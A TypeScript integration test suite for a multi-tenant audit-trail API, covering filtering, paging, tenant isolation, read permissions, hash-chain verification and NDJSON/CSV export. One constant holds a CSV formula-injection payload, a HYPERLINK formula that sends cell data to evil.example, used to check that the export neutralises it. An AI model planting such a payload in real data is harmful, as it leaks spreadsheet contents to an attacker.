// The audit trail's read side over real HTTP: GET /v1/audit-events (filters, newest first, keyset
// pages), GET /v1/audit-events/{id}, and the NDJSON/CSV export, against the events the write side
// really recorded. Who may read it, that tenants never see each other's trail, that what comes
// back recomputes to its hash, and that reading the trail is itself recorded.
import { randomUUID } from 'node:crypto';
import { getModelToken } from '@nestjs/mongoose';
import { parse } from 'csv-parse/sync';
import type { Model } from 'mongoose';
import { AuditChain } from '#src/kernel/audit/audit-chain';
import { AuditEvent, AuditEventDraft, GENESIS_HASH, hashAuditEvent } from '#src/kernel/audit/audit-event';
import { AuditEventRecord } from '#src/kernel/audit/audit-event.schema';
import { parseAuditNdjson } from '#src/kernel/audit/audit-export-reader';
import { AuditHeadRecord } from '#src/kernel/audit/audit-head.schema';
import { AuditRelay } from '#src/kernel/audit/audit-relay';
import { verifyAuditChain } from '#src/kernel/audit/audit-verification';
import { AuditWriter } from '#src/kernel/audit/audit-writer';
import { DEFAULT_GRANTS } from '#src/kernel/auth/permissions';
import { RequestContext } from '#src/kernel/context/request-context';
import { aTenant, TenantFixture } from '../factories/tenants';
import { startTestApp, TestApp } from '../utils/test-app';

interface Reply {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
  readonly body: Record<string, unknown>;
}

interface Page {
  readonly data: AuditEvent[];
  readonly nextCursor: string | null;
}

const INJECTED_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const PROBE_IP = '203.0.113.7';
const CSV_HEADER = [
  'seq', 'id', 'time', 'type', 'action', 'actorType', 'actorId', 'actorRole', 'targetType', 'targetId', 'ip', 'userAgent',
  'method', 'route', 'result', 'status', 'reason', 'count', 'requestId', 'hash', 'prevHash',
];

describe('audit events: the read side for auditors', () => {
  let t: TestApp;
  let acme: TenantFixture;
  let other: TenantFixture;
  const tokens: Record<'admin' | 'staff' | 'partner' | 'agent' | 'otherAdmin', string> = { admin: '', staff: '', partner: '', agent: '', otherAdmin: '' };
  let partnerId: string;

  async function call(path: string, token: string | undefined, init: { method?: string; body?: unknown; headers?: Record<string, string> } = {}): Promise<Reply> {
    const headers: Record<string, string> = { ...(token ? { authorization: `Bearer ${token}` } : {}), ...init.headers };
    if (init.body !== undefined) headers['content-type'] = 'application/json';
    const res = await fetch(`${t.baseUrl}${path}`, { method: init.method ?? 'GET', headers, body: init.body === undefined ? undefined : JSON.stringify(init.body) });
    // Decoded by hand: Response.text() would silently drop a byte order mark.
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    const json = /^application\/(problem\+)?json\b/.test(res.headers.get('content-type') ?? '');
    return { status: res.status, headers: res.headers, text, body: json ? (JSON.parse(text) as Record<string, unknown>) : {} };
  }

  /** Everything written so far, chained: buffered access events flushed, fast paths finished. */
  async function settle(): Promise<void> {
    await t.app.get(AuditWriter).flush();
    await t.app.get(AuditRelay).settled();
  }

  async function list(query: string, token = tokens.admin): Promise<Page> {
    const r = await call(`/v1/audit-events${query}`, token);
    expect({ query, status: r.status, body: r.status === 200 ? undefined : r.body }).toEqual({ query, status: 200, body: undefined });
    return r.body as unknown as Page;
  }

  /** Every event a filtered list returns, walking its pages. */
  async function listAll(filters: string, limit = 200): Promise<AuditEvent[]> {
    const events: AuditEvent[] = [];
    let cursor: string | null = null;
    do {
      const page = await list(`?limit=${limit}${filters}${cursor ? `&cursor=${cursor}` : ''}`);
      events.push(...page.data);
      cursor = page.nextCursor;
    } while (cursor);
    return events;
  }

  function ndjson(text: string): AuditEvent[] {
    expect(text === '' || text.endsWith('\n')).toBe(true);
    return text.split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as AuditEvent);
  }

  async function stored(tenantId: string): Promise<Map<string, AuditEvent>> {
    const model = t.app.get<Model<AuditEventRecord>>(getModelToken(AuditEventRecord.name));
    const docs = await t.app.get(RequestContext).runInTenant(tenantId, 'test:audit-reads', async () => model.find({}).lean());
    return new Map(docs.map(({ _id, ...event }) => [_id as unknown as string, event as unknown as AuditEvent]));
  }

  function probeDraft(overrides: Partial<AuditEventDraft> & { time: string }): AuditEventDraft {
    return {
      type: 'system',
      action: 'probe.tick',
      actor: { type: 'system', id: 'job:probe' },
      target: { type: 'probe', id: 'p1' },
      context: { ip: PROBE_IP },
      outcome: { result: 'error', reason: 'probe' },
      data: { note: 'synthetic', nested: { n: 1, list: [true, null, 'x'] } },
      source: `probe:${randomUUID()}`,
      ...overrides,
    };
  }

  beforeAll(async () => {
    t = await startTestApp({ label: 'audit_events' });
    [acme, other] = await Promise.all([aTenant(t, { name: 'Acme' }), aTenant(t, { name: 'Other' })]);
    tokens.admin = await acme.adminToken();
    tokens.otherAdmin = await other.adminToken();
    const partner = await call('/v1/partners', tokens.admin, { method: 'POST', body: { name: 'North', status: 'active' } });
    partnerId = partner.body.id as string;
    await call(`/v1/partners/${partnerId}`, tokens.admin, { method: 'PATCH', body: { tier: 'gold' } });
    await acme.addMember({ sub: 'auth0|staff', role: 'Staff' });
    await acme.addMember({ sub: 'auth0|north-user', role: 'Partner', partnerId });
    await acme.addMember({ sub: 'auth0|north-agent', role: 'Agent', partnerId });
    tokens.staff = await acme.tokenFor('auth0|staff');
    tokens.partner = await acme.tokenFor('auth0|north-user');
    tokens.agent = await acme.tokenFor('auth0|north-agent');
    // Reads by several actors, a refusal, a formula in a header, and enough traffic for several pages.
    await call('/v1/partners', tokens.staff);
    await call(`/v1/partners/${partnerId}`, tokens.partner, { method: 'DELETE' });
    await call('/v1/partners', tokens.admin, { headers: { 'user-agent': INJECTED_AGENT } });
    await Promise.all(Array.from({ length: 60 }, () => call('/v1/me', tokens.admin)));
    await call('/v1/partners', tokens.otherAdmin, { method: 'POST', body: { name: 'Elsewhere' } });
    await call('/v1/me', tokens.otherAdmin);
    // System events with known times, an IP and an action that an unescaped prefix would also match.
    const writer = t.app.get(AuditWriter);
    for (const time of ['2020-01-01T00:00:00.000Z', '2020-01-02T00:00:00.000Z', '2020-01-03T00:00:00.000Z']) {
      await writer.recordSystem(acme.tenant.id, probeDraft({ time }));
    }
    await writer.recordSystem(acme.tenant.id, probeDraft({ time: '2020-01-04T00:00:00.000Z', action: 'probeXtick' }));
    await settle();
  });
  afterAll(() => t.close());

  describe('listing', () => {
    it('returns the newest first, each event exactly as stored (minus _id), recomputing to its hash', async () => {
      const page = await list('?limit=200');
      const seqs = page.data.map((e) => e.seq);
      expect(seqs.length).toBeGreaterThan(60);
      expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
      const rows = await stored(acme.tenant.id);
      for (const [i, event] of page.data.entries()) {
        expect(event).toEqual(rows.get(event.id));
        expect(Object.keys(event)).not.toContain('_id');
        expect(event.tenantId).toBe(acme.tenant.id);
        expect(hashAuditEvent(event)).toBe(event.hash);
        const older = page.data[i + 1];
        if (older) expect(event.prevHash).toBe(older.hash);
      }
      const probe = page.data.find((e) => e.action === 'probe.tick');
      expect(probe).toMatchObject({ data: { note: 'synthetic', nested: { n: 1, list: [true, null, 'x'] } }, target: { type: 'probe', id: 'p1' } });
      const update = page.data.find((e) => e.action === 'partner.update' && e.type === 'change');
      expect(update?.changes).toEqual([{ field: 'tier', before: 'registered', after: 'gold' }]);
    });

    it('pages with limit 1..200 (default 50) and walks the whole stream by cursor without duplicates or gaps', async () => {
      expect((await list('')).data).toHaveLength(50);
      const one = await list('?limit=1');
      expect(one.data).toHaveLength(1);
      expect(typeof one.nextCursor).toBe('string');
      const seqs: number[] = [];
      let cursor: string | null = null;
      do {
        // Every page read appends an access event on top; the walk below is not disturbed by it.
        const page = await list(`?limit=7${cursor ? `&cursor=${cursor}` : ''}`);
        expect(page.data.length).toBeLessThanOrEqual(7);
        seqs.push(...page.data.map((e) => e.seq));
        cursor = page.nextCursor;
        await settle();
      } while (cursor);
      expect(seqs[seqs.length - 1]).toBe(1);
      expect(seqs).toEqual(Array.from({ length: seqs[0] }, (_, i) => seqs[0] - i));
    });

    it('walks a filtered list by cursor to the same events as one big page', async () => {
      await settle();
      const big = await list('?limit=200&action=partner.*');
      const walked = await listAll('&action=partner.*', 2);
      expect(walked.map((e) => e.seq)).toEqual(big.data.map((e) => e.seq));
      expect(new Set(walked.map((e) => e.seq)).size).toBe(walked.length);
    });

    it('sees events another process appended that this one has not cached', async () => {
      const context = t.app.get(RequestContext);
      const events = t.app.get<Model<AuditEventRecord>>(getModelToken(AuditEventRecord.name));
      const hints = t.app.get<Model<AuditHeadRecord>>(getModelToken(AuditHeadRecord.name));
      const elsewhere = new AuditChain(events, hints, context);
      const sources = Array.from({ length: 5 }, () => `elsewhere:${randomUUID()}`);
      await elsewhere.append(acme.tenant.id, sources.map((source) => probeDraft({ time: new Date().toISOString(), action: 'probe.elsewhere', source })));
      const page = await list('?limit=200');
      expect(page.data.filter((e) => e.action === 'probe.elsewhere').map((e) => e.source).sort()).toEqual([...sources].sort());
    });
  });

  describe('filters', () => {
    it('filters by actor, exact action and target', async () => {
      const byStaff = await listAll('&actorId=auth0%7Cstaff');
      expect(byStaff.length).toBeGreaterThan(0);
      expect(byStaff.every((e) => e.actor.id === 'auth0|staff')).toBe(true);

      const updates = await listAll('&action=partner.update');
      expect(updates.length).toBeGreaterThan(0);
      expect(updates.every((e) => e.action === 'partner.update')).toBe(true);

      const aboutPartner = await listAll(`&targetType=partner&targetId=${partnerId}`);
      expect(aboutPartner.map((e) => e.action)).toEqual(expect.arrayContaining(['partner.update', 'partner.delete']));
      expect(aboutPartner.every((e) => e.target?.type === 'partner' && e.target.id === partnerId)).toBe(true);
    });

    it('treats `x.*` as a literal prefix: `probe.*` matches probe.tick, never probeXtick', async () => {
      const partnerActions = await listAll('&action=partner.*');
      expect(partnerActions.every((e) => e.action.startsWith('partner.'))).toBe(true);
      expect(new Set(partnerActions.map((e) => e.action))).toEqual(new Set(['partner.create', 'partner.update', 'partner.list', 'partner.delete']));
      const probes = await listAll('&action=probe.*');
      expect(probes.map((e) => e.action)).toContain('probe.tick');
      expect(probes.map((e) => e.action)).not.toContain('probeXtick');
      expect((await listAll('&action=probeXtick')).map((e) => e.action)).toEqual(['probeXtick']);
      expect(await listAll('&action=probe')).toEqual([]);
    });

    it('filters by result and by exact IP', async () => {
      const denied = await listAll('&result=denied');
      expect(denied.every((e) => e.outcome.result === 'denied')).toBe(true);
      expect(denied.find((e) => e.actor.id === 'auth0|north-user' && e.action === 'partner.delete')).toMatchObject({ type: 'denial', outcome: { status: 403 } });
      const errors = await listAll('&result=error');
      expect(errors.length).toBeGreaterThanOrEqual(4);
      expect(errors.every((e) => e.outcome.result === 'error')).toBe(true);
      const fromProbe = await listAll(`&ip=${PROBE_IP}`);
      expect(fromProbe.length).toBeGreaterThanOrEqual(4);
      expect(fromProbe.every((e) => e.context.ip === PROBE_IP)).toBe(true);
      expect(await listAll('&ip=203.0.113.8')).toEqual([]);
    });

    it('filters on time: from inclusive, to exclusive, dates and zone offsets alike', async () => {
      const times = async (q: string) => (await listAll(`&action=probe.tick${q}`)).map((e) => e.time);
      expect(await times('&from=2020-01-02T00:00:00Z&to=2020-01-03T00:00:00Z')).toEqual(['2020-01-02T00:00:00.000Z']);
      expect(await times('&from=2020-01-02&to=2020-01-03')).toEqual(['2020-01-02T00:00:00.000Z']);
      expect(await times('&from=2020-01-02T01:00:00%2B01:00&to=2020-01-03T00:00:00.001Z')).toEqual(['2020-01-03T00:00:00.000Z', '2020-01-02T00:00:00.000Z']);
      expect(await times('&to=2020-01-02')).toEqual(['2020-01-01T00:00:00.000Z']);
      expect((await times('&from=2021-01-01')).length).toBe(0);
    });

    it('combines filters with AND', async () => {
      const combined = await listAll(`&actorId=job:probe&result=error&ip=${PROBE_IP}&action=probe.*&targetType=probe&targetId=p1&from=2020-01-01&to=2020-01-03`);
      expect(combined.map((e) => e.time)).toEqual(['2020-01-02T00:00:00.000Z', '2020-01-01T00:00:00.000Z']);
    });

    it('answers 400 naming every bad parameter as a JSON Pointer, unknown ones included', async () => {
      const bad = await call('/v1/audit-events?limit=0&result=maybe&from=yesterday&to=2020-02-30&ip=999.1.1.1&action=lead*&actorId=a%20b&cursor=!!&tenantId=x', tokens.admin);
      expect(bad.status).toBe(400);
      expect(bad.headers.get('content-type')).toContain('application/problem+json');
      const fields = (bad.body.errors as { field: string }[]).map((e) => e.field);
      expect(new Set(fields)).toEqual(new Set(['/limit', '/result', '/from', '/to', '/ip', '/action', '/actorId', '/cursor', '/tenantId']));
      for (const [query, field] of [
        ['limit=201', '/limit'],
        ['limit=abc', '/limit'],
        ['limit=1&limit=2', '/limit'],
        ['from=2020-01-02&to=2020-01-02', '/to'],
        [`cursor=${Buffer.from('{"o":"-seq","s":0}').toString('base64url')}`, '/cursor'],
        ['from=10000-01-01', '/from'],
      ] as const) {
        const r = await call(`/v1/audit-events?${query}`, tokens.admin);
        expect({ query, status: r.status, fields: [...new Set((r.body.errors as { field: string }[] | undefined)?.map((e) => e.field))] }).toEqual({ query, status: 400, fields: [field] });
      }
      for (const [query, field] of [
        ['fromSeq=0', '/fromSeq'],
        ['toSeq=x', '/toSeq'],
        ['fromSeq=5&toSeq=4', '/toSeq'],
        ['format=xml', '/format'],
        ['bom=yes', '/bom'],
        ['limit=5', '/limit'],
      ] as const) {
        const r = await call(`/v1/audit-events/export?${query}`, tokens.admin);
        expect({ query, status: r.status, fields: [...new Set((r.body.errors as { field: string }[] | undefined)?.map((e) => e.field))] }).toEqual({ query, status: 400, fields: [field] });
      }
    });
  });

  describe('one event', () => {
    it('returns an event of the tenant exactly as stored', async () => {
      const id = `${acme.tenant.id}:1`;
      const r = await call(`/v1/audit-events/${id}`, tokens.admin);
      expect(r.status).toBe(200);
      expect(r.body).toEqual((await stored(acme.tenant.id)).get(id));
      expect(hashAuditEvent(r.body as unknown as AuditEvent)).toBe(r.body.hash);
      expect((await call(`/v1/audit-events/${encodeURIComponent(id)}`, tokens.admin)).body).toEqual(r.body);
    });

    it("answers 404 alike for another tenant's id, an unknown one and a malformed one", async () => {
      await settle();
      const strip = (body: Record<string, unknown>) => ({ ...body, requestId: undefined });
      const foreign = await call(`/v1/audit-events/${other.tenant.id}:1`, tokens.admin);
      expect(foreign.status).toBe(404);
      expect(foreign.body).toMatchObject({ code: 'not_found' });
      for (const id of [`${acme.tenant.id}:99999999`, `${acme.tenant.id}:0`, 'ffffffffffffffffffffffff', 'platform:1', `${acme.tenant.id}:1:2`]) {
        const r = await call(`/v1/audit-events/${id}`, tokens.admin);
        expect({ id, status: r.status, body: strip(r.body) }).toEqual({ id, status: 404, body: strip(foreign.body) });
      }
    });
  });

  describe('target ids from the path', () => {
    it('records control characters percent-escaped and cuts the id at 2048 characters (found by Schemathesis)', async () => {
      const tail = 'x'.repeat(3000);
      const r = await call(`/v1/leads/%0Abad%7F%09id${tail}`, tokens.admin);
      expect(r.status).toBe(404);
      await settle();
      const event = [...(await stored(acme.tenant.id)).values()].find((e) => e.context.requestId === r.body.requestId);
      expect(event?.target).toEqual({ type: 'lead', id: `%0Abad%7F%09id${tail}`.slice(0, 2048) });
      const listed = await call(`/v1/audit-events?targetType=lead&limit=200`, tokens.admin);
      const shown = (listed.body.data as AuditEvent[]).find((e) => e.context.requestId === r.body.requestId);
      const id = shown?.target?.id ?? '';
      expect({ length: id.length, controls: [...id].filter((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f) }).toEqual({ length: 2048, controls: [] });
    });
  });

  describe('tenant isolation', () => {
    it("never shows one tenant's events to another, through the list, one event or the export", async () => {
      await settle();
      const acmeIds = new Set((await stored(acme.tenant.id)).keys());
      const page = (await call('/v1/audit-events?limit=200', tokens.otherAdmin)).body as unknown as Page;
      expect(page.data.length).toBeGreaterThan(0);
      expect(page.data.every((e) => e.tenantId === other.tenant.id && !acmeIds.has(e.id))).toBe(true);
      const aimed = (await call(`/v1/audit-events?actorId=${encodeURIComponent(acme.admin.sub)}`, tokens.otherAdmin)).body as unknown as Page;
      expect(aimed.data).toEqual([]);
      expect((await call(`/v1/audit-events/${acme.tenant.id}:1`, tokens.otherAdmin)).status).toBe(404);
      const exported = ndjson((await call('/v1/audit-events/export', tokens.otherAdmin)).text);
      expect(exported.length).toBeGreaterThan(0);
      expect(exported.every((e) => e.tenantId === other.tenant.id)).toBe(true);
      const csv = (await call('/v1/audit-events/export?format=csv', tokens.otherAdmin)).text;
      // Every row is one of the other tenant's own events (its denial of the probe above records the
      // id it asked for, which names acme's tenant: that is the caller's own input, not acme's data).
      const rowIds = csv.trim().split('\r\n').slice(1).map((line) => line.split(',')[1]);
      expect(rowIds.length).toBeGreaterThan(0);
      expect(rowIds.every((id) => id.startsWith(`${other.tenant.id}:`))).toBe(true);
      expect(csv).not.toContain(acme.admin.sub);
    });
  });

  describe('who may read the trail', () => {
    const routes = () => [`/v1/audit-events`, `/v1/audit-events/${acme.tenant.id}:1`, '/v1/audit-events/export'];

    it('refuses Partner and Agent users (403), and no Admin can grant them the audit permissions', async () => {
      for (const who of ['partner', 'agent'] as const) {
        for (const path of routes()) {
          const r = await call(path, tokens[who]);
          expect({ who, path, status: r.status, code: r.body.code }).toEqual({ who, path, status: 403, code: 'permission_denied' });
        }
      }
      for (const role of ['Partner', 'Agent']) {
        for (const permission of ['audit:read', 'audit:export']) {
          const r = await call(`/v1/roles/${role}`, tokens.admin, { method: 'PUT', body: { grants: [...DEFAULT_GRANTS[role as 'Partner' | 'Agent'], permission] } });
          expect({ role, permission, status: r.status }).toEqual({ role, permission, status: 400 });
        }
      }
    });

    it('lets Admin read and export by default, and Staff only once granted, each permission separately', async () => {
      for (const path of routes()) expect({ path, status: (await call(path, tokens.admin)).status }).toEqual({ path, status: 200 });
      for (const path of routes()) expect({ path, status: (await call(path, tokens.staff)).status }).toEqual({ path, status: 403 });
      const grant = (grants: string[]) => call('/v1/roles/Staff', tokens.admin, { method: 'PUT', body: { grants } });
      try {
        expect((await grant([...DEFAULT_GRANTS.Staff, 'audit:read'])).status).toBe(200);
        expect((await call('/v1/audit-events', tokens.staff)).status).toBe(200);
        expect((await call(`/v1/audit-events/${acme.tenant.id}:1`, tokens.staff)).status).toBe(200);
        expect((await call('/v1/audit-events/export', tokens.staff)).status).toBe(403);
        expect((await grant([...DEFAULT_GRANTS.Staff, 'audit:export'])).status).toBe(200);
        expect((await call('/v1/audit-events/export', tokens.staff)).status).toBe(200);
        expect((await call('/v1/audit-events', tokens.staff)).status).toBe(403);
      } finally {
        expect((await grant([...DEFAULT_GRANTS.Staff])).status).toBe(200);
      }
    });

    it('refuses a request without a token (401)', async () => {
      for (const path of routes()) expect((await call(path, undefined)).status).toBe(401);
    });
  });

  describe('NDJSON export', () => {
    it('is the default: one event per line, oldest first, each recomputing to its hash and linked by prevHash', async () => {
      await settle();
      const r = await call('/v1/audit-events/export', tokens.admin);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toBe('application/x-ndjson');
      expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-events-\d{4}-\d{2}-\d{2}\.ndjson"$/);
      expect(r.headers.get('vary')).toContain('Accept');
      const events = ndjson(r.text);
      expect(events.map((e) => e.seq)).toEqual(Array.from({ length: events.length }, (_, i) => i + 1));
      events.forEach((event, i) => {
        expect(event.tenantId).toBe(acme.tenant.id);
        expect(hashAuditEvent(event)).toBe(event.hash);
        expect(event.prevHash).toBe(i === 0 ? GENESIS_HASH : events[i - 1].hash);
      });
      const rows = await stored(acme.tenant.id);
      for (const event of events) expect(event).toEqual(rows.get(event.id));
      // What `npm run cli -- audit:verify --file` does with the file: it reads and verifies as it is.
      const report = verifyAuditChain({ events: parseAuditNdjson(r.text, 'export.ndjson').events, keys: [] });
      expect(report).toMatchObject({ intact: true, stream: acme.tenant.id, checkedEvents: events.length, firstSeq: 1, lastSeq: events.length });
    });

    it('takes a sequence range and the list filters, and answers NDJSON to Accept: application/x-ndjson', async () => {
      const all = ndjson((await call('/v1/audit-events/export', tokens.admin)).text);
      const range = await call('/v1/audit-events/export?fromSeq=3&toSeq=5', tokens.admin, { headers: { accept: 'application/x-ndjson' } });
      expect(range.headers.get('content-type')).toBe('application/x-ndjson');
      const slice = ndjson(range.text);
      expect(slice.map((e) => e.seq)).toEqual([3, 4, 5]);
      expect(slice[0].prevHash).toBe(all[1].hash);
      const sliceReport = verifyAuditChain({ events: [all[1], ...slice], keys: [], from: 3, to: 5 });
      expect(sliceReport).toMatchObject({ intact: true, firstSeq: 3, lastSeq: 5 });
      const updates = ndjson((await call('/v1/audit-events/export?action=partner.*&result=success', tokens.admin)).text);
      expect(updates.length).toBeGreaterThan(0);
      expect(updates.map((e) => e.seq)).toEqual([...updates.map((e) => e.seq)].sort((a, b) => a - b));
      expect(updates.every((e) => e.action.startsWith('partner.') && e.outcome.result === 'success')).toBe(true);
      expect((await call('/v1/audit-events/export?fromSeq=999999', tokens.admin)).text).toBe('');
    });
  });

  describe('CSV export', () => {
    it('parses as RFC 4180 with the flat columns and neutralises a formula injected through a header', async () => {
      await settle();
      const r = await call('/v1/audit-events/export?format=csv', tokens.admin);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-events-\d{4}-\d{2}-\d{2}\.csv"$/);
      const records = parse(r.text, { bom: true }) as string[][];
      expect(records[0]).toEqual(CSV_HEADER);
      const rows = parse(r.text, { columns: true, bom: true }) as Record<string, string>[];
      expect(rows.map((row) => Number(row.seq))).toEqual(Array.from({ length: rows.length }, (_, i) => i + 1));
      const injected = rows.find((row) => row.userAgent.includes('HYPERLINK'));
      expect(injected?.userAgent).toBe(`'${INJECTED_AGENT}`);
      expect(rows.some((row) => row.userAgent.startsWith('='))).toBe(false);
      const first = rows[0];
      const event = (await stored(acme.tenant.id)).get(first.id) as AuditEvent;
      expect(first).toMatchObject({ id: event.id, time: event.time, action: event.action, hash: event.hash, prevHash: event.prevHash, result: event.outcome.result });
    });

    it('is chosen by Accept: text/csv too, while format= wins over Accept; bom=true adds a byte order mark', async () => {
      const byAccept = await call('/v1/audit-events/export', tokens.admin, { headers: { accept: 'text/csv' } });
      expect(byAccept.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const preferred = await call('/v1/audit-events/export', tokens.admin, { headers: { accept: 'application/x-ndjson;q=0.5, text/csv' } });
      expect(preferred.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const overruled = await call('/v1/audit-events/export?format=ndjson', tokens.admin, { headers: { accept: 'text/csv' } });
      expect(overruled.headers.get('content-type')).toBe('application/x-ndjson');
      const bom = await call('/v1/audit-events/export?format=csv&bom=true', tokens.admin);
      expect(bom.text.startsWith('\uFEFFseq,id,time,')).toBe(true);
      const head = await fetch(`${t.baseUrl}/v1/audit-events/export?format=csv`, { method: 'HEAD', headers: { authorization: `Bearer ${tokens.admin}` } });
      expect(head.status).toBe(200);
      expect(head.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    });
  });

  describe('the trail audits itself', () => {
    it('records every list, read and export of audit events as an event, refusals included', async () => {
      const marks = { list: randomUUID(), read: randomUUID(), export: randomUUID(), csv: randomUUID(), refused: randomUUID() };
      const readId = `${acme.tenant.id}:2`;
      // A member who was never refused before: identical denials within a minute are coalesced.
      await acme.addMember({ sub: 'auth0|curious-agent', role: 'Agent', partnerId });
      const curious = await acme.tokenFor('auth0|curious-agent');
      await call('/v1/audit-events?limit=3&action=lead.*', tokens.admin, { headers: { 'x-request-id': marks.list } });
      await call(`/v1/audit-events/${readId}`, tokens.admin, { headers: { 'x-request-id': marks.read } });
      await call('/v1/audit-events/export', tokens.admin, { headers: { 'x-request-id': marks.export } });
      await call('/v1/audit-events/export?format=csv', tokens.admin, { headers: { 'x-request-id': marks.csv } });
      await call('/v1/audit-events', curious, { headers: { 'x-request-id': marks.refused } });
      await settle();
      const trail = await listAll('&action=audit-event.*');
      const byRequest = (id: string) => trail.filter((e) => e.context.requestId === id);
      expect(byRequest(marks.list)).toEqual([
        expect.objectContaining({ type: 'access', action: 'audit-event.list', target: { type: 'audit-event', id: null }, actor: expect.objectContaining({ id: acme.admin.sub }), outcome: expect.objectContaining({ result: 'success', status: 200 }) }),
      ]);
      expect(byRequest(marks.read)).toEqual([expect.objectContaining({ action: 'audit-event.read', target: { type: 'audit-event', id: readId }, outcome: expect.objectContaining({ status: 200 }) })]);
      for (const mark of [marks.export, marks.csv]) {
        expect(byRequest(mark)).toEqual([expect.objectContaining({ action: 'audit-event.export', context: expect.objectContaining({ route: '/v1/audit-events/export' }), outcome: expect.objectContaining({ result: 'success', status: 200 }) })]);
      }
      expect(byRequest(marks.refused)).toEqual([
        expect.objectContaining({ type: 'denial', action: 'audit-event.list', actor: expect.objectContaining({ id: 'auth0|curious-agent' }), outcome: expect.objectContaining({ status: 403, reason: expect.stringContaining('permission_denied') }) }),
      ]);
    });
  });
});
